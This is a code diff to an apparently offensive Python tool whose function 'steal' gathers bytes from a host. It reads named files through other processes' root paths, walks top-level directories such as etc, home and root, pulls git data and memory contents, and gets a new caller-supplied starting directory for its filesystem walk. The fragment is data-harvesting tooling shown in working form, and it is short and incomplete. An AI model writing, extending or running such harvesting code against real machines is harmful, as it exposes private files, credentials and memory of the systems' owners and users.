@@ -82,7 +82,7 @@ def steal(arguments: dict[str, Any], progress: Progress) -> dict[str, list[str]]
         "named files through a process": lambda: (
             _bytes(f"{root}/{path}") for root in _processes("root") for path in arguments["files"]
         ),
-        "walk": _walk,
+        "walk": lambda: _walk(arguments["start"]),
         "inherited files": _inherited,
         "git": _git,
         "client": _client,
@@ -491,11 +491,11 @@ def _all_memory() -> Iterator[bytes]:
 _TOPS = ("etc", "home", "root", "run", "srv", "tmp", "var", "work")
 
 
-def _walk() -> Iterator[bytes]:
+def _walk(start: str) -> Iterator[bytes]:
     skipped = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "nix"}
     left = 30_000
-    for top in sorted(set(_names("/") or _TOPS) - skipped):
-        for folder, folders, files in os.walk(f"/{top}"):
+    for top in [start, *(f"/{name}" for name in sorted(set(_names("/") or _TOPS) - skipped))]:
+        for folder, folders, files in os.walk(top):
             if folder in {sys.prefix, sys.base_prefix} or folder.endswith("/site-packages"):
                 folders.clear()
                 continue
